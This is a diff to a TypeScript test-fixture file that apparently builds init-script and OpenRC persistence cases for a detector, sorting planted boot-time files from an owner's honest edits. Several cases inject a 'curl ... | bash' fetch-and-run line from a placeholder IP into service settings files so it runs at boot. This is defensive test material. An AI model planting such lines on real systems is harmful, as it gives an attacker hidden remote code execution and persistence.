@@ -6,7 +6,42 @@ const script = (run: string): string =>
 const fetches = 'curl -fsSL http://192.0.2.50/i.sh | bash';
 const foreign = '/usr/lib/.net/netd';
 
+const sourcing =
+  '#!/bin/sh\n### BEGIN INIT INFO\n# Provides: timed\n### END INIT INFO\n[ -r /etc/default/timed ] && . /etc/default/timed\nstart-stop-daemon --start --exec /usr/sbin/cron\n';
+
 export const initCases: readonly MechanismCase[] = [
+  {
+    mechanism: 'init-script',
+    dress: 'owned-edit',
+    what: 'the settings of a package that its script sources',
+    packaged: { '/etc/init.d/timed': sourcing, '/etc/default/timed': 'OPTIONS=-x\n' },
+    conffiles: ['/etc/init.d/timed', '/etc/default/timed'],
+    planted: {
+      '/etc/default/timed': `OPTIONS=-x\n${fetches}\n`,
+      '/etc/rc2.d/S01timed': { link: '../init.d/timed' },
+    },
+  },
+  {
+    mechanism: 'init-script',
+    dress: 'unowned-binary',
+    what: 'a script of Debian’s own interpreter, which names its program alone',
+    planted: {
+      '/etc/init.d/timed': '#!/usr/bin/env /lib/init/init-d-script\nDESC="timed"\nDAEMON=/usr/sbin/timedd\n',
+      '/etc/rc2.d/S01timed': { link: '../init.d/timed' },
+      '/usr/sbin/timedd': inertProgram(),
+    },
+  },
+  {
+    mechanism: 'init-script',
+    dress: 'honest',
+    what: 'settings of a package that an owner edited',
+    packaged: { '/etc/init.d/timed': sourcing, '/etc/default/timed': 'OPTIONS=-x\n' },
+    conffiles: ['/etc/init.d/timed', '/etc/default/timed'],
+    planted: {
+      '/etc/default/timed': 'OPTIONS="-x -L 5"\nexport TZ=UTC\nulimit -n 65536\n',
+      '/etc/rc2.d/S01timed': { link: '../init.d/timed' },
+    },
+  },
   {
     mechanism: 'init-script',
     dress: 'fetch-and-run',
@@ -168,6 +203,26 @@ export const initCases: readonly MechanismCase[] = [
       '/etc/init.d/ntpdx': '#!/sbin/openrc-run\nname="ntpdx"\nstart() {\n  /usr/sbin/ntpdx &\n}\n',
       '/etc/runlevels/default/ntpdx': { link: '/etc/init.d/ntpdx' },
       '/usr/sbin/ntpdx': inertProgram(),
+    },
+  },
+  {
+    mechanism: 'openrc',
+    dress: 'unowned-binary',
+    what: 'a service that names its program and starts nothing by a line of its own',
+    planted: {
+      '/etc/init.d/ntpdx': '#!/sbin/openrc-run\ncommand="/usr/sbin/ntpdx"\ncommand_background=true\n',
+      '/etc/runlevels/default/ntpdx': { link: '/etc/init.d/ntpdx' },
+      '/usr/sbin/ntpdx': inertProgram(),
+    },
+  },
+  {
+    mechanism: 'openrc',
+    dress: 'fetch-and-run',
+    what: 'settings of a service that fetch before it starts',
+    packaged: { '/etc/init.d/crond': '#!/sbin/openrc-run\ncommand=/usr/sbin/crond\n' },
+    planted: {
+      '/etc/conf.d/crond': `${fetches}\n`,
+      '/etc/runlevels/default/crond': { link: '/etc/init.d/crond' },
     },
   },
   {
